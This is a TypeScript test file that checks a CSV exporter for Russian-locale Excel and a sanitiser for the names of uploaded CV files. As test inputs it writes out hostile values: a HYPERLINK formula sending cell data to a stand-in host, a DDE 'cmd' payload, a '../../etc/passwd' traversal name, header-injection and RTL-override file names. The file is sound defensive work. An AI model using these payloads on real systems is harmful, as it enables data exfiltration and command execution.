import { parse } from "csv-parse/sync";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { CSV_BOM, csvCell, csvLine, formulaLike } from "./csv.ts";
import { attachmentDisposition, cvFileName } from "./attachment.ts";

/** Read back as Excel would (semicolons, quotes, CRLF), by a parser that is not ours. */
const readBack = (text: string) => parse(text, { delimiter: ";", bom: true, relax_column_count: false }) as string[][];

describe("CSV for Excel in Russian", () => {
  it("quotes every cell, doubles quotes, keeps semicolons and line breaks inside their cell, ends lines with CRLF", () => {
    const line = csvLine(["Анна", 'ООО «Рога и копыта» "Север"', "a;b", "строка 1\nстрока 2", 42, null]);
    expect(line).toBe('"Анна";"ООО «Рога и копыта» ""Север""";"a;b";"строка 1\nстрока 2";"42";""\r\n');
    expect(readBack(CSV_BOM + line)).toEqual([["Анна", 'ООО «Рога и копыта» "Север"', "a;b", "строка 1\nстрока 2", "42", ""]]);
  });

  it("neutralises cells a spreadsheet would run as formulas (OWASP: = + - @ tab CR), leading spaces included", () => {
    for (const hostile of ['=HYPERLINK("https://evil.example/?d="&A1,"Нажмите")', "+7 912+A1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "  =1+1", "\n=1", "+7 912\n=1"]) {
      expect(csvCell(hostile), JSON.stringify(hostile)).toBe(`"'${hostile.replace(/"/g, '""')}"`);
    }
    for (const harmless of ["Анна", "a=b", "1-2", "mail@example.com", ""]) expect(csvCell(harmless)).toBe(`"${harmless}"`);
  });

  it("writes phone numbers in the phone column as they are, without the mark: digits and separators call nothing", () => {
    for (const phone of ["+79161234567", "+7 (912) 345-67-89", "+44 20 7946 0958", "8 912 345-67-89"]) expect(csvCell(phone, true)).toBe(`"${phone}"`);
    expect(csvLine(["+1-1", "+79161234567", "-2-2"], 1)).toBe(`"'+1-1";"+79161234567";"'-2-2"\r\n`);
  });

  it("marks phone-shaped arithmetic in every other column, and a too short one even in the phone column", () => {
    for (const sum of ["+1-1", "-1-1", "+79161234567", "+7 (912) 345-67-89", "-2 (3)"]) expect(csvCell(sum), sum).toBe(`"'${sum}"`);
    for (const short of ["+1-1", "-1-1", "+12", "+1234567890123456"]) expect(csvCell(short, true), short).toBe(`"'${short}"`);
  });

  it("reads back every value it writes, with the mark added only to formula-like ones", () => {
    fc.assert(
      fc.property(fc.array(fc.string({ unit: "binary" }), { minLength: 1, maxLength: 6 }), (cells) => {
        const [row] = readBack(CSV_BOM + csvLine(cells));
        expect(row).toEqual(cells.map((cell) => (formulaLike(cell) ? `'${cell}` : cell)));
        for (const cell of cells) if (/^\s*[=@]|^[\t\r]/.test(cell)) expect(formulaLike(cell), JSON.stringify(cell)).toBe(true);
      }),
      { numRuns: 300 },
    );
  });
});

describe("names of the files handed out", () => {
  it("keeps a CV's readable name, drops what could mislead a file system or a header, and takes the extension from its type", () => {
    expect(cvFileName("Резюме Анна.pdf", "application/pdf", "0d3c2b1a-0000-4000-8000-000000000000")).toBe("Резюме Анна.pdf");
    expect(cvFileName("../../etc/passwd\r\n.html", "application/pdf", "0d3c2b1a-0000")).toBe("etc_passwd.pdf");
    expect(cvFileName('cv"; filename="x.exe.docx', "application/vnd.openxmlformats-officedocument.wordprocessingml.document", "ab")).toBe("cv_ filename=_x.exe.docx");
    expect(cvFileName("\u202egpj.exe", "application/msword", "0d3c2b1a")).toBe("gpj.doc");
    expect(cvFileName("...", "application/pdf", "0d3c2b1a-0000")).toBe("rezume-0d3c2b1a.pdf");
  });

  it("names an attachment in ASCII and in UTF-8 (RFC 6266, 8187)", () => {
    expect(attachmentDisposition("Резюме (1).pdf")).toBe("attachment; filename=\"______ (1).pdf\"; filename*=UTF-8''%D0%A0%D0%B5%D0%B7%D1%8E%D0%BC%D0%B5%20%281%29.pdf");
    expect(attachmentDisposition("zayavki-2031-01-01.csv")).toBe("attachment; filename=\"zayavki-2031-01-01.csv\"; filename*=UTF-8''zayavki-2031-01-01.csv");
  });
});
